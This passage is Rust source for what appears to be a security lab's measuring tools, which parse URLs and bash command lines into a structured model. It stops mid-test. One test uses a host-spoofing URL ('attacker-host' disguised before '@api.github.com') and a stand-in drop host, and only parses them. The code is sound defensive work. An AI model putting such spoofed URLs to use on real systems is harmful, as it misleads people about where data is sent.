//! The adversary lab's measuring instruments: the PARSERS the engine also
//! uses, so there is one truth about what a call names.
//!
//! - URLs: [`seclab_engine::net::parse_url`] (the WHATWG `url` crate, the
//!   algorithm Node's `fetch` runs, plus the public suffix list of the `psl`
//!   crate): host, registrable domain, address class, path and query as sent.
//! - Command lines: `brush-parser` (the bash parser the engine's
//!   `seclab_engine::shell` is built on) turned into the lab's own plain
//!   structure: pipelines of simple commands (words after quote removal, with
//!   the inner command lines of their `$(…)`/backtick and `<(…)` substitutions)
//!   and groups (`{ …; }`, `( … )`, `if`/`for`/`while`/`case` bodies, each run
//!   once), redirections, here-documents and here-strings, function
//!   definitions.
//!
//! Only the parse is shared. What a command DOES (what left, what ran, what was
//! read or written) is decided by the lab's own model in [`super::effects`],
//! never by the engine's effect classifier or its detector lists. A line the
//! parser rejects runs nothing, as in bash (a syntax error runs no part of the
//! line).

use brush_parser::ast;
use brush_parser::word::{WordPiece, WordPieceWithSource};
use seclab_engine::net::{self, AddrClass};
use std::net::IpAddr;

/// What a URL parse says about a destination.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UrlFacts {
    pub scheme: String,
    /// Canonical, lowercase host as the WHATWG parser resolves it.
    pub host: String,
    pub ip: Option<IpAddr>,
    /// Public suffix + one label (None for IPs and single labels).
    pub registrable_domain: Option<String>,
    pub addr_class: AddrClass,
    /// Path as sent (after the host).
    pub path: String,
    /// Query as sent (without `?`), empty when none.
    pub query: String,
}

impl UrlFacts {
    /// Bytes of the request line the URL itself carries: host + path + query.
    pub fn url_bytes(&self) -> u64 {
        (self.host.len() + self.path.len() + self.query.len()) as u64
    }
}

/// Parse a URL the way a WHATWG client (Node's `fetch`) would; `None` when a
/// client could not send to it (nothing leaves).
pub fn parse_url(raw: &str) -> Option<UrlFacts> {
    let u = net::parse_url(raw.trim()).ok()?;
    Some(UrlFacts {
        scheme: u.scheme,
        host: u.host,
        ip: u.ip,
        registrable_domain: u.registrable_domain,
        addr_class: u.addr_class,
        path: u.path,
        query: u.query.unwrap_or_default(),
    })
}

/// One redirection of a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Redirect {
    /// `< file`
    In(String),
    /// `> file` (or `>>` with `append`); `&> file` too.
    Out { path: String, append: bool },
    /// `<<'WORD'` here-document (or one with nothing to expand): its text
    /// becomes stdin.
    Heredoc(String),
    /// `<<< WORD` here-string, or a `<<WORD` here-document whose body has
    /// `$`/backquotes: expanded when the command runs (parameters,
    /// substitutions; bash manual, "Here Strings", "Here Documents"), then
    /// stdin (a here-string with a newline added).
    HereWord(Word),
    /// `< <(line)`: the output of `line` becomes stdin.
    InFrom(String),
    /// `> >(line)`: the output goes to `line`'s stdin.
    OutTo(String),
    /// A target that brace expansion made several words (`> ~/.{a,b}`):
    /// bash reports "ambiguous redirect" and does not run the command.
    Ambiguous(String),
}

/// A word of a command, with the command lines of its substitutions.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Word {
    /// The word after quote removal; each command substitution is kept as
    /// `$(inner)` text (the lab replaces it by the inner line's output),
    /// parameter expansions as written (`$HOME`, `${X}`).
    pub text: String,
    /// Inner command lines of `$(…)` and backtick substitutions, in order.
    pub subs: Vec<String>,
    /// A `<(line)` process substitution: the word is a file (`/dev/fd/63`)
    /// holding the output of `line`.
    pub proc_in: Option<String>,
    /// A prefix assignment as the shell reads one (`NAME=value` with a literal,
    /// unquoted name before the program): `N''AME=v prog` is not one, it is a
    /// program named `NAME=v`.
    pub assignment: bool,
    /// A compound array assignment (`name=(w1 w2)`, `name+=(…)`): each
    /// element's word, with its `[key]=` when one is written (bash manual,
    /// "Arrays"). `text` is then the assignment as written.
    pub array: Option<Vec<(Option<String>, Word)>>,
    /// The word's pieces in order, for the lab to expand as bash does:
    /// literal text (quoted or not: unquoted `*`, `?`, `[` are a pattern),
    /// command substitutions, parameter expansions with their operands (run
    /// only when the parameter's state selects them), arithmetic.
    pub parts: Vec<Part>,
}

/// A piece of a word, before expansion.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Part {
    /// Text after quote removal (ANSI-C `$'…'` decoded); `quoted`: no
    /// character of it is a pattern character.
    Lit { text: String, quoted: bool },
    /// `$(line)` or a backtick substitution; `quoted`: inside double quotes
    /// (its output is then not split into fields).
    Sub { line: String, quoted: bool },
    /// `$NAME`, `${NAME…}`.
    Param(Param),
    /// `$(( expr ))`: the expression is expanded like a word (its
    /// substitutions run) then evaluated.
    Arith(Box<Word>),
}

/// A parameter expansion.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Param {
    /// The parameter (`HOME`, `1`, `@`, …).
    pub name: String,
    pub op: ParamOp,
    /// `:` form: a null value counts as unset.
    pub colon: bool,
    /// The operand word (`default` of `${X:-default}`), expanded only when used.
    pub operand: Option<Box<Word>>,
    /// Inside double quotes: the value is not split into fields.
    pub quoted: bool,
    /// What the expansion does to the value (`${p%.sh}`, `${p/x/y}`,
    /// `${p:0:4}`, `${p^^}`: [`super::param_edit`]).
    pub edit: Option<super::param_edit::Edit>,
    /// `${!p}`: the value is that of the variable `p` names.
    pub indirect: bool,
    /// `${a[1]}`, `${a[@]}`, `${a[*]}`: which elements of an array.
    pub index: Option<ParamIndex>,
}

/// The elements an array expansion names (bash manual, "Arrays").
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParamIndex {
    /// `[@]` (each element its own word when quoted) or `[*]` (`star`: one
    /// word, the elements joined by the first character of `IFS`, when
    /// quoted).
    All { star: bool },
    /// `[SUBSCRIPT]`: the subscript as written (an arithmetic expression).
    At(String),
}

/// What a parameter expansion does with its operand (bash manual, "Shell
/// Parameter Expansion").
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ParamOp {
    /// `$X`, `${X}` and every form the lab reads as the value.
    Value,
    /// `${X:-w}`: `w` when unset (or null).
    Default,
    /// `${X:=w}`: `w` assigned and used when unset (or null).
    Assign,
    /// `${X:+w}`: `w` when set (and not null), else nothing.
    Alternative,
    /// `${X:?w}`: when unset (or null) `w` is expanded as the message and
    /// the command does not run.
    Error,
    /// `${#X}`.
    Length,
}

/// A simple command: words and redirections.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct SimpleCmd {
    pub words: Vec<Word>,
    pub redirects: Vec<Redirect>,
}

impl SimpleCmd {
    pub fn argv(&self) -> Vec<String> {
        self.words.iter().map(|w| w.text.clone()).collect()
    }
}

/// One element of a pipeline.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Cmd {
    Simple(SimpleCmd),
    /// A compound command (`{ …; }`, `( … )`, `if`, `for`, `while`, `case`):
    /// its pipelines in order, every branch and body run once; the pipeline's
    /// stdin feeds the first, the outputs are concatenated, then redirected.
    Group {
        body: Vec<Pipeline>,
        redirects: Vec<Redirect>,
        /// `( … )`: run in a subshell, so its `cd` ends with it (bash(1),
        /// "Compound Commands").
        subshell: bool,
    },
    /// `name() { … }`: defines `name`, runs nothing.
    Function {
        name: String,
        body: Vec<Pipeline>,
    },
}

/// Commands joined by `|` (stdout of each feeds the next).
pub type Pipeline = Vec<Cmd>;

/// A parsed command line: pipelines in order (`;`, `&&`, `||`, `&`, newline
/// all run the next one; the lab assumes every part runs). Empty when the
/// parser rejects the line.
pub fn parse_shell(line: &str) -> Vec<Pipeline> {
    if line.trim().is_empty() {
        return Vec::new();
    }
    let mut p = brush_parser::Parser::new(
        std::io::BufReader::new(line.as_bytes()),
        &options(),
        &brush_parser::SourceInfo::default(),
    );
    match p.parse_program() {
        Ok(prog) => {
            let mut out = Vec::new();
            for cl in &prog.complete_commands {
                list(cl, &mut out);
            }
            out
        }
        Err(_) => Vec::new(),
    }
}

fn options() -> brush_parser::ParserOptions {
    brush_parser::ParserOptions {
        // `~/.bashrc` stays `~/.bashrc` (the world's paths are written so).
        tilde_expansion: false,
        ..brush_parser::ParserOptions::default()
    }
}

fn list(l: &ast::CompoundList, out: &mut Vec<Pipeline>) {
    for item in &l.0 {
        let a = &item.0;
        out.push(pipeline(&a.first));
        for x in &a.additional {
            match x {
                ast::AndOr::And(p) | ast::AndOr::Or(p) => out.push(pipeline(p)),
            }
        }
    }
}

fn pipeline(p: &ast::Pipeline) -> Pipeline {
    p.seq.iter().filter_map(command).collect()
}

fn command(c: &ast::Command) -> Option<Cmd> {
    match c {
        ast::Command::Simple(sc) => Some(Cmd::Simple(simple(sc))),
        ast::Command::Compound(cc, redirs) => {
            let mut body = Vec::new();
            compound(cc, &mut body);
            let mut redirects = Vec::new();
            for io in redirs.iter().flat_map(|r| r.0.iter()) {
                redirect(io, &mut redirects);
            }
            let subshell = matches!(cc, ast::CompoundCommand::Subshell(_));
            Some(Cmd::Group {
                body,
                redirects,
                subshell,
            })
        }
        ast::Command::Function(f) => {
            let mut body = Vec::new();
            compound(&f.body.0, &mut body);
            Some(Cmd::Function {
                name: word(&f.fname).text,
                body,
            })
        }
        // `[[ … ]]` tests only compare words.
        ast::Command::ExtendedTest(_) => None,
    }
}

fn compound(cc: &ast::CompoundCommand, out: &mut Vec<Pipeline>) {
    match cc {
        ast::CompoundCommand::BraceGroup(b) => list(&b.list, out),
        ast::CompoundCommand::Subshell(s) => list(&s.list, out),
        ast::CompoundCommand::ForClause(f) => {
            // The values' substitutions run once (as a command with no program).
            let words: Vec<Word> = f
                .values
                .iter()
                .flatten()
                .map(word)
                .filter(|w| !w.subs.is_empty())
                .collect();
            if !words.is_empty() {
                out.push(vec![Cmd::Simple(SimpleCmd {
                    words: std::iter::once(Word {
                        text: format!("{}=", f.variable_name),
                        assignment: true,
                        ..Word::default()
                    })
                    .chain(words)
                    .collect(),
                    redirects: Vec::new(),
                })]);
            }
            list(&f.body.list, out);
        }
        ast::CompoundCommand::CaseClause(c) => {
            for item in &c.cases {
                if let Some(l) = &item.cmd {
                    list(l, out);
                }
            }
        }
        ast::CompoundCommand::IfClause(i) => {
            list(&i.condition, out);
            list(&i.then, out);
            for e in i.elses.iter().flatten() {
                if let Some(c) = &e.condition {
                    list(c, out);
                }
                list(&e.body, out);
            }
        }
        ast::CompoundCommand::WhileClause(w) | ast::CompoundCommand::UntilClause(w) => {
            list(&w.0, out);
            list(&w.1.list, out);
        }
        ast::CompoundCommand::ArithmeticForClause(f) => {
            let exprs = [&f.initializer, &f.condition, &f.updater];
            arithmetic(exprs.into_iter().flatten(), out);
            list(&f.body.list, out)
        }
        // `(( expr ))`: the expression is expanded (its substitutions run).
        ast::CompoundCommand::Arithmetic(a) => arithmetic(std::iter::once(&a.expr), out),
    }
}

/// Arithmetic expressions of a compound command, expanded as a command of
/// assignments only (nothing runs but their substitutions).
fn arithmetic<'a>(exprs: impl Iterator<Item = &'a ast::UnexpandedArithmeticExpr>, out: &mut Vec<Pipeline>) {
    let words: Vec<Word> = exprs
        .map(|e| {
            let inner = word_of(&e.value);
            Word {
                text: format!("_(({}))=0", inner.text),
                assignment: true,
                subs: inner.subs.clone(),
                parts: vec![
                    Part::Lit {
                        text: "_arith=".into(),
                        quoted: true,
                    },
                    Part::Arith(Box::new(inner)),
                ],
                ..Word::default()
            }
        })
        .collect();
    if !words.is_empty() {
        out.push(vec![Cmd::Simple(SimpleCmd {
            words,
            redirects: Vec::new(),
        })]);
    }
}

fn simple(sc: &ast::SimpleCommand) -> SimpleCmd {
    let mut c = SimpleCmd::default();
    let items = sc
        .prefix
        .iter()
        .flat_map(|p| p.0.iter())
        .map(Some)
        .chain(std::iter::once(None))
        .chain(sc.suffix.iter().flat_map(|s| s.0.iter()).map(Some));
    for item in items {
        match item {
            None => {
                if let Some(w) = &sc.word_or_name {
                    c.words.extend(words(w));
                }
            }
            Some(ast::CommandPrefixOrSuffixItem::Word(w)) => c.words.extend(words(w)),
            // Prefix assignments stay words (`X=$(…) prog`): the lab runs their
            // substitutions and skips them as a program name.
            Some(ast::CommandPrefixOrSuffixItem::AssignmentWord(a, w)) => c.words.push(Word {
                assignment: true,
                array: match &a.value {
                    ast::AssignmentValue::Array(items) => Some(
                        items
                            .iter()
                            .map(|(k, v)| (k.as_ref().map(|k| k.value.clone()), word(v)))
                            .collect(),
                    ),
                    ast::AssignmentValue::Scalar(_) => None,
                },
                ..word(w)
            }),
            Some(ast::CommandPrefixOrSuffixItem::IoRedirect(io)) => redirect(io, &mut c.redirects),
            Some(ast::CommandPrefixOrSuffixItem::ProcessSubstitution(kind, sub)) => c.words.push(proc_word(kind, sub)),
        }
    }
    c
}

fn proc_word(kind: &ast::ProcessSubstitutionKind, sub: &ast::SubshellCommand) -> Word {
    let inner = sub.list.to_string();
    match kind {
        ast::ProcessSubstitutionKind::Read => Word {
            text: "/dev/fd/63".into(),
            proc_in: Some(inner),
            ..Word::default()
        },
        // `>(line)` as an argument: the lab runs `line` with no input.
        ast::ProcessSubstitutionKind::Write => Word {
            text: "/dev/null".into(),
            subs: vec![inner.clone()],
            ..Word::default()
        },
    }
}

fn redirect(io: &ast::IoRedirect, out: &mut Vec<Redirect>) {
    match io {
        ast::IoRedirect::File(_, kind, target) => {
            let path = match target {
                ast::IoFileRedirectTarget::Filename(w) => match words(w).as_slice() {
                    [one] => one.text.clone(),
                    _ => return out.push(Redirect::Ambiguous(w.value.clone())),
                },
                ast::IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                    let inner = sub.list.to_string();
                    match kind {
                        ast::IoFileRedirectKind::Read | ast::IoFileRedirectKind::ReadAndWrite => {
                            out.push(Redirect::InFrom(inner))
                        }
                        _ => out.push(Redirect::OutTo(inner)),
                    }
                    return;
                }
                // `>&2`, `2>&1`: descriptor duplication, no file.
                ast::IoFileRedirectTarget::Fd(_) => return,
                // `>& WORD`: a number or `-` duplicates/closes; any other word is a
                // file bash opens for output (and `<& WORD` for input).
                ast::IoFileRedirectTarget::Duplicate(w) => {
                    let t = word(w).text;
                    let t2 = t.trim_end_matches('-');
                    if t.is_empty() || t == "-" || t2.chars().all(|c| c.is_ascii_digit()) {
                        return;
                    }
                    match kind {
                        ast::IoFileRedirectKind::DuplicateInput => out.push(Redirect::In(t)),
                        _ => out.push(Redirect::Out { path: t, append: false }),
                    }
                    return;
                }
            };
            match kind {
                ast::IoFileRedirectKind::Read | ast::IoFileRedirectKind::ReadAndWrite => out.push(Redirect::In(path)),
                ast::IoFileRedirectKind::Write | ast::IoFileRedirectKind::Clobber => {
                    out.push(Redirect::Out { path, append: false })
                }
                ast::IoFileRedirectKind::Append => out.push(Redirect::Out { path, append: true }),
                ast::IoFileRedirectKind::DuplicateInput | ast::IoFileRedirectKind::DuplicateOutput => {}
            }
        }
        ast::IoRedirect::HereDocument(_, h) => {
            let body = &h.doc.value;
            if h.requires_expansion && body.contains(['$', '`']) {
                // The body expands as a double-quoted word does, its `"`
                // literal.
                out.push(Redirect::HereWord(word_of(&format!(
                    "\"{}\"",
                    body.replace('"', "\\\"")
                ))));
            } else {
                out.push(Redirect::Heredoc(body.clone()));
            }
        }
        ast::IoRedirect::HereString(_, w) => {
            let mut w = word(w);
            lit(&mut w, "\n", true);
            out.push(Redirect::HereWord(w));
        }
        ast::IoRedirect::OutputAndError(w, append) => match words(w).as_slice() {
            [one] => out.push(Redirect::Out {
                path: one.text.clone(),
                append: *append,
            }),
            _ => out.push(Redirect::Ambiguous(w.value.clone())),
        },
    }
}

/// A word after quote removal, with its substitutions.
fn word(w: &ast::Word) -> Word {
    word_of(&w.value)
}

/// The words a word of the line becomes after brace expansion (bash's first
/// expansion, done on the word as written: quoted braces and `${…}` stay).
fn words(w: &ast::Word) -> Vec<Word> {
    braces(&w.value).iter().map(|s| word_of(s)).collect()
}

/// A word parsed from its source text.
pub fn word_of(src: &str) -> Word {
    let mut out = Word::default();
    match brush_parser::word::parse(src, &options()) {
        Ok(pieces) => self::pieces(src, &pieces, false, &mut out),
        // A word the word parser rejects: its quotes removed, no substitution.
        Err(_) => {
            out.text = brush_parser::unquote_str(src);
            out.parts.push(Part::Lit {
                text: out.text.clone(),
                quoted: true,
            });
        }
    }
    out
}

fn lit(w: &mut Word, t: &str, quoted: bool) {
    w.text.push_str(t);
    w.parts.push(Part::Lit {
        text: t.to_string(),
        quoted,
    });
}

fn pieces(src: &str, pieces: &[WordPieceWithSource], in_dq: bool, w: &mut Word) {
    for p in pieces {
        match &p.piece {
            WordPiece::Text(t) => lit(w, t, in_dq),
            WordPiece::SingleQuotedText(t) => lit(w, t, true),
            WordPiece::AnsiCQuotedText(t) => lit(w, &ansi_c(t), true),
            WordPiece::EscapeSequence(t) => lit(w, t.strip_prefix('\\').unwrap_or(t), true),
            WordPiece::TildePrefix(t) => lit(w, &format!("~{t}"), true),
            WordPiece::DoubleQuotedSequence(inner) | WordPiece::GettextDoubleQuotedSequence(inner) => {
                self::pieces(src, inner, true, w)
            }
            WordPiece::CommandSubstitution(s) | WordPiece::BackquotedCommandSubstitution(s) => {
                w.text.push_str("$(");
                w.text.push_str(s);
                w.text.push(')');
                w.subs.push(s.clone());
                w.parts.push(Part::Sub {
                    line: s.clone(),
                    quoted: in_dq,
                });
            }
            WordPiece::ParameterExpansion(e) => {
                // `text` keeps the expansion as written (paths like `$HOME/x`
                // normalise from it); the lab expands it from `parts`.
                w.text.push_str(src.get(p.start_index..p.end_index).unwrap_or(""));
                w.parts.push(Part::Param(Param {
                    quoted: in_dq,
                    ..param(e)
                }));
            }
            WordPiece::ArithmeticExpression(a) => {
                w.text.push_str(src.get(p.start_index..p.end_index).unwrap_or(""));
                let inner = word_of(&a.value);
                w.subs.extend(inner.subs.iter().cloned());
                w.parts.push(Part::Arith(Box::new(inner)));
            }
        }
    }
}

fn param_name(p: &brush_parser::word::Parameter) -> String {
    use brush_parser::word::{Parameter, SpecialParameter as S};
    match p {
        Parameter::Positional(n) => n.to_string(),
        Parameter::Named(n) => n.clone(),
        Parameter::NamedWithIndex { name, .. } | Parameter::NamedWithAllIndices { name, .. } => name.clone(),
        Parameter::Special(s) => match s {
            S::AllPositionalParameters { .. } => "@",
            S::PositionalParameterCount => "#",
            S::LastExitStatus => "?",
            S::CurrentOptionFlags => "-",
            S::ProcessId => "$",
            S::LastBackgroundProcessId => "!",
            S::ShellName => "0",
        }
        .to_string(),
    }
}

/// The lab's reading of a parameter expansion: its parameter, and for the
/// four conditional forms the operand word (parsed, not yet expanded).
fn param(e: &brush_parser::word::ParameterExpr) -> Param {
    use brush_parser::word::{ParameterExpr as E, ParameterTestType as T};
    let operand = |o: &Option<String>| Some(Box::new(word_of(o.as_deref().unwrap_or(""))));
    let (parameter, op, test, operand) = match e {
        E::UseDefaultValues {
            parameter,
            test_type,
            default_value,
            ..
        } => (parameter, ParamOp::Default, Some(test_type), operand(default_value)),
        E::AssignDefaultValues {
            parameter,
            test_type,
            default_value,
            ..
        } => (parameter, ParamOp::Assign, Some(test_type), operand(default_value)),
        E::UseAlternativeValue {
            parameter,
            test_type,
            alternative_value,
            ..
        } => (
            parameter,
            ParamOp::Alternative,
            Some(test_type),
            operand(alternative_value),
        ),
        E::IndicateErrorIfNullOrUnset {
            parameter,
            test_type,
            error_message,
            ..
        } => (parameter, ParamOp::Error, Some(test_type), operand(error_message)),
        E::ParameterLength { parameter, .. } => (parameter, ParamOp::Length, None, None),
        E::Parameter { parameter, .. }
        | E::RemoveSmallestSuffixPattern { parameter, .. }
        | E::RemoveLargestSuffixPattern { parameter, .. }
        | E::RemoveSmallestPrefixPattern { parameter, .. }
        | E::RemoveLargestPrefixPattern { parameter, .. }
        | E::Substring { parameter, .. }
        | E::Transform { parameter, .. }
        | E::UppercaseFirstChar { parameter, .. }
        | E::UppercasePattern { parameter, .. }
        | E::LowercaseFirstChar { parameter, .. }
        | E::LowercasePattern { parameter, .. }
        | E::ReplaceSubstring { parameter, .. } => (parameter, ParamOp::Value, None, None),
        E::VariableNames { prefix, .. }
        | E::MemberKeys {
            variable_name: prefix, ..
        } => {
            return Param {
                name: prefix.clone(),
                op: ParamOp::Length,
                colon: false,
                operand: None,
                quoted: false,
                edit: None,
                indirect: false,
                index: None,
            }
        }
    };
    let (edit, indirect) = super::param_edit::of(e);
    Param {
        name: param_name(parameter),
        op,
        colon: matches!(test, Some(T::UnsetOrNull)),
        operand,
        quoted: false,
        edit,
        indirect,
        index: param_index(parameter),
    }
}

fn param_index(p: &brush_parser::word::Parameter) -> Option<ParamIndex> {
    use brush_parser::word::Parameter;
    match p {
        Parameter::NamedWithIndex { index, .. } => Some(ParamIndex::At(index.clone())),
        Parameter::NamedWithAllIndices { concatenate, .. } => Some(ParamIndex::All { star: *concatenate }),
        _ => None,
    }
}

/// Decode the text of an ANSI-C quoted string `$'…'` (bash manual, "ANSI-C
/// Quoting"): `\a \b \e \E \f \n \r \t \v \\ \' \" \?`, `\NNN` (one to three
/// octal digits), `\xHH` (one or two hex digits), `\uHHHH`, `\UHHHHHHHH`,
/// `\cX` (control-X); any other backslash stays.
pub fn ansi_c(s: &str) -> String {
    let c: Vec<char> = s.chars().collect();
    let mut out = String::new();
    let mut i = 0;
    let digits = |i: usize, max: usize, radix: u32| -> (u32, usize) {
        let mut v = 0u32;
        let mut n = 0;
        while n < max && i + n < c.len() && c[i + n].is_digit(radix) {
            v = v
                .wrapping_mul(radix)
                .wrapping_add(c[i + n].to_digit(radix).unwrap_or(0));
            n += 1;
        }
        (v, n)
    };
    while i < c.len() {
        if c[i] != '\\' || i + 1 >= c.len() {
            out.push(c[i]);
            i += 1;
            continue;
        }
        let e = c[i + 1];
        i += 2;
        let simple = match e {
            'a' => Some('\x07'),
            'b' => Some('\x08'),
            'e' | 'E' => Some('\x1b'),
            'f' => Some('\x0c'),
            'n' => Some('\n'),
            'r' => Some('\r'),
            't' => Some('\t'),
            'v' => Some('\x0b'),
            '\\' | '\'' | '"' | '?' => Some(e),
            _ => None,
        };
        if let Some(ch) = simple {
            out.push(ch);
            continue;
        }
        match e {
            '0'..='7' => {
                let (v, n) = digits(i - 1, 3, 8);
                i += n - 1;
                // bash keeps the low byte of a code above \377.
                out.push(char::from((v & 0xff) as u8));
            }
            'x' | 'u' | 'U' => {
                let max = match e {
                    'x' => 2,
                    'u' => 4,
                    _ => 8,
                };
                let (v, n) = digits(i, max, 16);
                if n == 0 {
                    out.push('\\');
                    out.push(e);
                    continue;
                }
                i += n;
                match e {
                    'x' => out.push(char::from(v as u8)),
                    _ => out.push(char::from_u32(v).unwrap_or('\u{fffd}')),
                }
            }
            'c' if i < c.len() => {
                let x = c[i];
                i += 1;
                out.push(char::from_u32((x.to_ascii_uppercase() as u32) ^ 0x40).unwrap_or(x));
            }
            _ => {
                out.push('\\');
                out.push(e);
            }
        }
    }
    out
}

/// Most words one word may become by brace expansion (bash has no limit; the
/// lab stops growing the list there).
const MAX_BRACE_WORDS: usize = 256;

/// Brace expansion of a word as written (bash manual, "Brace Expansion"): a
/// preamble, then `{a,b,…}` (at least one unquoted comma at its level) or a
/// sequence `{x..y[..incr]}` of integers or single letters, then a
/// postscript; left to right, nested. Quoted text, backslash escapes, `${…}`,
/// `$(…)` and backticks are not looked into. A word with no valid brace
/// expression is itself.
pub fn braces(src: &str) -> Vec<String> {
    let mut out = Vec::new();
    expand_braces(src, &mut out, 0);
    if out.is_empty() {
        out.push(src.to_string());
    }
    out
}

fn expand_braces(src: &str, out: &mut Vec<String>, depth: u8) {
    if out.len() >= MAX_BRACE_WORDS {
        return;
    }
    let found = if depth > 8 { None } else { find_brace(src) };
    let Some((open, close, members)) = found else {
        out.push(src.to_string());
        return;
    };
    let (pre, post) = (&src[..open], &src[close + 1..]);
    for m in members {
        expand_braces(&format!("{pre}{m}{post}"), out, depth + 1);
        if out.len() >= MAX_BRACE_WORDS {
            return;
        }
    }
}

/// Byte positions of the word's characters that are unquoted and
/// outside `${…}`, `$(…)` and backticks, marked `true`.
fn open_chars(src: &str) -> Vec<(usize, char, bool)> {
    let c: Vec<(usize, char)> = src.char_indices().collect();
    let mut out = Vec::with_capacity(c.len());
    let mut i = 0;
    let skip_to = |from: usize, close: char, open: char, out: &mut Vec<(usize, char, bool)>| -> usize {
        let mut d = 0i32;
        let mut j = from;
        while j < c.len() {
            out.push((c[j].0, c[j].1, false));
            if c[j].1 == '\\' && j + 1 < c.len() {
                j += 1;
                out.push((c[j].0, c[j].1, false));
            } else if c[j].1 == open && j > from {
                d += 1;
            } else if c[j].1 == close && j > from {
                if d == 0 {
                    return j + 1;
                }
                d -= 1;
            }
            j += 1;
        }
        j
    };
    // A quoted run from its opener at `from` to its `close` (a backslash
    // escapes the next character when `escapes`): every character is quoted.
    let quoted = |from: usize, close: char, escapes: bool, out: &mut Vec<(usize, char, bool)>| -> usize {
        out.push((c[from].0, c[from].1, false));
        let mut j = from + 1;
        while j < c.len() && c[j].1 != close {
            if escapes && c[j].1 == '\\' && j + 1 < c.len() {
                out.push((c[j].0, c[j].1, false));
                j += 1;
            }
            out.push((c[j].0, c[j].1, false));
            j += 1;
        }
        if j < c.len() {
            out.push((c[j].0, c[j].1, false));
            j += 1;
        }
        j
    };
    while i < c.len() {
        let ch = c[i].1;
        let next = c.get(i + 1).map(|x| x.1);
        match ch {
            '\\' => {
                out.push((c[i].0, ch, false));
                if let Some(n) = c.get(i + 1) {
                    out.push((n.0, n.1, false));
                }
                i += 2;
            }
            '\'' => i = quoted(i, '\'', false, &mut out),
            '"' => i = quoted(i, '"', true, &mut out),
            '$' if next == Some('{') => {
                out.push((c[i].0, ch, false));
                i = skip_to(i + 1, '}', '{', &mut out);
            }
            '$' if next == Some('(') => {
                out.push((c[i].0, ch, false));
                i = skip_to(i + 1, ')', '(', &mut out);
            }
            '$' if next == Some('\'') => {
                out.push((c[i].0, ch, false));
                i = quoted(i + 1, '\'', true, &mut out);
            }
            '`' => i = quoted(i, '`', true, &mut out),
            _ => {
                out.push((c[i].0, ch, true));
                i += 1;
            }
        }
    }
    out
}

/// The first valid brace expression of `src`: its `{` and `}` positions and
/// its members (as source text).
fn find_brace(src: &str) -> Option<(usize, usize, Vec<String>)> {
    let chars = open_chars(src);
    for (k, &(open, ch, free)) in chars.iter().enumerate() {
        if !free || ch != '{' {
            continue;
        }
        // the matching `}` and the top-level commas
        let mut depth = 0;
        let mut commas = Vec::new();
        let mut close = None;
        for &(pos, c, f) in &chars[k + 1..] {
            if !f {
                continue;
            }
            match c {
                '{' => depth += 1,
                '}' if depth == 0 => {
                    close = Some(pos);
                    break;
                }
                '}' => depth -= 1,
                ',' if depth == 0 => commas.push(pos),
                _ => {}
            }
        }
        let Some(close) = close else { continue };
        let inner = &src[open + 1..close];
        if !commas.is_empty() {
            let mut members = Vec::new();
            let mut from = open + 1;
            for c in commas {
                members.push(src[from..c].to_string());
                from = c + 1;
            }
            members.push(src[from..close].to_string());
            return Some((open, close, members));
        }
        if let Some(seq) = sequence(inner) {
            return Some((open, close, seq));
        }
    }
    None
}

/// `x..y[..incr]` of integers (zero-padded when either end is) or of single
/// letters.
fn sequence(inner: &str) -> Option<Vec<String>> {
    let parts: Vec<&str> = inner.split("..").collect();
    if !(2..=3).contains(&parts.len()) {
        return None;
    }
    let incr: i64 = match parts.get(2) {
        Some(s) => s.parse().ok()?,
        None => 1,
    };
    // Past i64::MAX the step takes the sequence out of range at once.
    let step = i64::try_from(incr.unsigned_abs().max(1)).unwrap_or(i64::MAX);
    let range = |a: i64, b: i64| -> Vec<i64> {
        let mut v = Vec::new();
        let mut x = a;
        while v.len() < MAX_BRACE_WORDS {
            v.push(x);
            if x == b {
                break;
            }
            let next = if a <= b {
                x.checked_add(step)
            } else {
                x.checked_sub(step)
            };
            match next {
                Some(n) if !((a <= b && n > b) || (a > b && n < b)) => x = n,
                _ => break,
            }
        }
        v
    };
    if let (Ok(a), Ok(b)) = (parts[0].parse::<i64>(), parts[1].parse::<i64>()) {
        let padded = |s: &str| s.trim_start_matches('-').len() > 1 && s.trim_start_matches('-').starts_with('0');
        let width = if padded(parts[0]) || padded(parts[1]) {
            parts[0].len().max(parts[1].len())
        } else {
            0
        };
        return Some(range(a, b).into_iter().map(|x| format!("{x:0width$}")).collect());
    }
    let (mut a, mut b) = (parts[0].chars(), parts[1].chars());
    match (a.next(), a.next(), b.next(), b.next()) {
        (Some(x), None, Some(y), None) if x.is_ascii_alphabetic() && y.is_ascii_alphabetic() => Some(
            range(x as i64, y as i64)
                .into_iter()
                .filter_map(|c| char::from_u32(c as u32).map(String::from))
                .collect(),
        ),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn simple(c: &Cmd) -> &SimpleCmd {
        match c {
            Cmd::Simple(s) => s,
            other => panic!("not a simple command: {other:?}"),
        }
    }

    /// Every printable ASCII character, alone, doubled and between words, parses
    /// in bounded time and size (the search feeds the parser arbitrary text).
    #[test]
    fn slo_11_shell_parse_terminates_on_every_punctuation() {
        for c in (0x21u8..0x7f).map(char::from) {
            for line in [
                format!("{c}"),
                format!("{c}{c}"),
                format!("echo a{c} {c}b {c}"),
                format!("x {c}"),
            ] {
                let p = parse_shell(&line);
                let words: usize = p
                    .iter()
                    .flat_map(|pl| pl.iter())
                    .map(|c| match c {
                        Cmd::Simple(s) => s.words.len(),
                        _ => 0,
                    })
                    .sum();
                assert!(words <= line.len() + 1, "{line:?}: {words} words");
            }
        }
    }

    /// SLO-11: the lab's destination facts are the engine's WHATWG + public
    /// suffix parse (one truth about a call).
    #[test]
    fn slo_11_whatwg_host_and_public_suffix_registrable_domain() {
        let f = parse_url("https://attacker-host\\@api.github.com/x").unwrap();
        assert_eq!(f.host, "attacker-host");
        let g = parse_url("https://user@drop.example.net/a?q=1").unwrap();
        assert_eq!(g.host, "drop.example.net");
        assert_eq!(g.registrable_domain.as_deref(), Some("example.net"));
        assert_eq!(g.query, "q=1");
        assert_eq!(
            parse_url("http://0x7f.1/").unwrap().ip,
